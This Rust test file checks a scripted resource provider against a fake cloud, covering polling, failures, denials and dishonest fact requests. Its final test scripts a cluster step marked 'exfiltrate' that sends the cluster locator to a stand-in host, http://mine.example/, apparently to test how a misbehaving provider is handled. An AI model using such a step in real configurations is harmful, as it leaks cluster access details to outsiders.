use nic_sdk::testing::{FakeCloud, Reply, with_cloud, with_report};
use nic_sdk::types::Status;

use super::*;

fn context() -> Context {
    Context::default().lineage("l")
}

fn change(on: &Value, remote_id: Option<&str>) -> Change {
    let script = json!({ "endpoint": "http://things.test", "on": on });
    Change::new("scripted.thing.a", "scripted.thing", json!({ "name": "a", "value": 1, "script": script }))
        .remote_id(remote_id.map(str::to_owned))
        .token("0".repeat(32))
}

fn target(on: &Value, remote_id: Option<&str>) -> Target {
    let change = change(on, remote_id);
    Target::new(change.address, change.kind, change.document).remote_id(change.remote_id)
}

fn a_thing() -> Value {
    json!({ "id": "7", "name": "a", "value": 1, "owner": "l/scripted.thing.a", "counter": 0 })
}

fn things() -> FakeCloud {
    FakeCloud::new()
        .on("scripted", "POST /things", Reply::json(201, &a_thing()))
        .on("scripted", "GET /things", Reply::json(200, &json!([a_thing()])))
        .on("scripted", "GET /things/7", Reply::json(200, &a_thing()))
        .on("scripted", "DELETE /things/7", Reply::new(204, ""))
}

#[test]
fn without_a_script_it_is_honest() {
    let cloud = things();
    let (done, told) = with_report(|| {
        with_cloud(&cloud, || block_on(Scripted::create(&context(), change(&json!({}), None)))).unwrap()
    });
    let Progress::Done(done) = done else { panic!("pending") };
    assert_eq!(done.remote_id.as_deref(), Some("7"));
    assert_eq!(done.document["counter"], 0);
    assert_eq!(told.created, ["7"]);
    let body: Value = serde_json::from_slice(&cloud.requests()[0].body).unwrap();
    assert_eq!((&body["owner"], &body["unique"]), (&json!("l/scripted.thing.a"), &json!("nothing")));

    let targets = vec![target(&json!({}), None), target(&json!({}), Some("7"))];
    let seen = with_cloud(&cloud, || block_on(Scripted::read(&context(), targets))).unwrap();
    assert!(seen.iter().all(|one| one.status == Status::Present && one.remote_id.as_deref() == Some("7")));
    assert_eq!(cloud.elapsed(), 2, "one round trip for the create, one for both reads");

    let gone = with_cloud(&cloud, || block_on(Scripted::delete(&context(), change(&json!({}), Some("7"))))).unwrap();
    assert_eq!(gone, Progress::Done(Observation::absent("scripted.thing.a")));
}

#[test]
fn a_pending_create_is_done_after_its_polls() {
    let on = json!({ "create": [{ "do": "pend", "polls": 3, "after_ms": 50 }] });
    let cloud = things();
    let mut progress = with_cloud(&cloud, || block_on(Scripted::create(&context(), change(&on, None)))).unwrap();
    let mut polls = 0;
    while let Progress::Pending(waiting) = progress {
        assert_eq!(waiting.poll_after.as_millis(), 50);
        assert_eq!(waiting.remote_id.as_deref(), Some("7"));
        polls += 1;
        progress = with_cloud(&cloud, || {
            block_on(Scripted::poll(&context(), change(&on, Some("7")), waiting.operation)).unwrap()
        });
    }
    assert_eq!(polls, 3);
    assert!(matches!(progress, Progress::Done(done) if done.remote_id.as_deref() == Some("7")));
}

#[test]
fn a_failure_can_come_before_the_effect_or_after_it() {
    let cloud = things();
    let create = |step: Value| {
        let on = json!({ "create": step });
        with_cloud(&cloud, || block_on(Scripted::create(&context(), change(&on, None))))
    };
    let before = create(json!({ "do": "fail-late", "effect": false })).unwrap_err();
    assert_eq!((before.remote_id, cloud.requests().len()), (None, 0));
    let after = create(json!({ "do": "fail-late", "error": "conflict" })).unwrap_err();
    assert_eq!((after.remote_id.as_deref(), cloud.requests().len()), (Some("7"), 1));
    assert!(matches!(after.error, Error::Conflict(_)));
    let late = create(json!({ "do": "fail-late", "polls": 1 })).unwrap();
    let Progress::Pending(waiting) = late else { panic!("not pending") };
    let polled =
        with_cloud(&cloud, || block_on(Scripted::poll(&context(), change(&json!({}), Some("7")), waiting.operation)));
    assert!(matches!(polled, Err(Failure { remote_id: Some(_), .. })));
}

#[test]
fn what_is_refused_is_found_out_and_told() {
    let cloud = FakeCloud::new()
        .on("*", "GET /", Reply::refused(Error::denied("ACTION_NOT_GRANTED", "not granted")))
        .on("scripted", "GET /things/7", Reply::json(200, &a_thing()));
    let read = |go_on: bool| {
        let on = json!({ "read": [{ "do": "deny", "how": "other-host", "go_on": go_on }] });
        with_cloud(&cloud, || block_on(Scripted::read(&context(), vec![target(&on, Some("7"))])))
    };
    assert_eq!(read(false), Err(Error::denied("ACTION_NOT_GRANTED", "not granted")));
    let (seen, told) = with_report(|| read(true).unwrap());
    assert_eq!(seen[0].document["findings"], json!(["deny other-host: denied: not granted [ACTION_NOT_GRANTED]"]));
    assert_eq!(told.log.len(), 1);
}

#[test]
fn facts_are_asked_once_unless_it_lies() {
    let config = |within: Value| {
        json!({ "scripted": {
            "endpoint": "http://things.test",
            "facts": ["zone"],
            "in": within,
            "resources": [{ "name": "a", "value_from_fact": "zone" }],
        }})
    };
    let honest = config(json!({}));
    let desired = |config: &Value, facts: &Facts| Scripted::desired(&context(), config, facts).unwrap();
    assert!(matches!(desired(&honest, &Facts::default()), Answer::Need(asked) if asked.len() == 1));
    let facts = Facts::from_iter([("zone".to_owned(), json!("z1"))]);
    let Answer::Ready(resources) = desired(&honest, &facts) else { panic!("asks again") };
    assert_eq!(resources[0].document["value"], "z1");
    let liar = config(json!({ "desired": [{ "do": "lie", "how": "ask-again" }] }));
    assert!(matches!(desired(&liar, &facts), Answer::Need(_)));
}

#[test]
fn a_name_that_another_one_has_is_foreign() {
    let others = json!([{ "id": "9", "name": "a", "owner": "somebody" }]);
    let cloud = FakeCloud::new().on("scripted", "GET /things", Reply::json(200, &others));
    let named = Target::new("scripted.named.a", "scripted.named", target(&json!({}), None).document);
    let seen = with_cloud(&cloud, || block_on(Scripted::read(&context(), vec![named]))).unwrap();
    assert!(matches!(seen[0].status, Status::Foreign(_)));
}

#[test]
fn the_place_of_the_cluster_can_be_its_own() {
    let config = |within: Value| {
        json!({ "scripted": {
            "endpoint": "http://x",
            "cluster": { "kind": "kubeconfig", "parameters": { "context": "test" } },
            "in": within,
        }})
    };
    let cluster = |within: Value| Scripted::cluster(&context(), &config(within), &[]).unwrap().unwrap();
    assert_eq!(cluster(json!({})).parameters["context"], "test");
    let own = cluster(json!({ "cluster": { "do": "exfiltrate", "what": "locator", "to": "http://mine.example/" } }));
    assert_eq!(own.kind, "kubeconfig-from");
    assert_eq!(own.parameters["request"]["url"], "http://mine.example/");
}
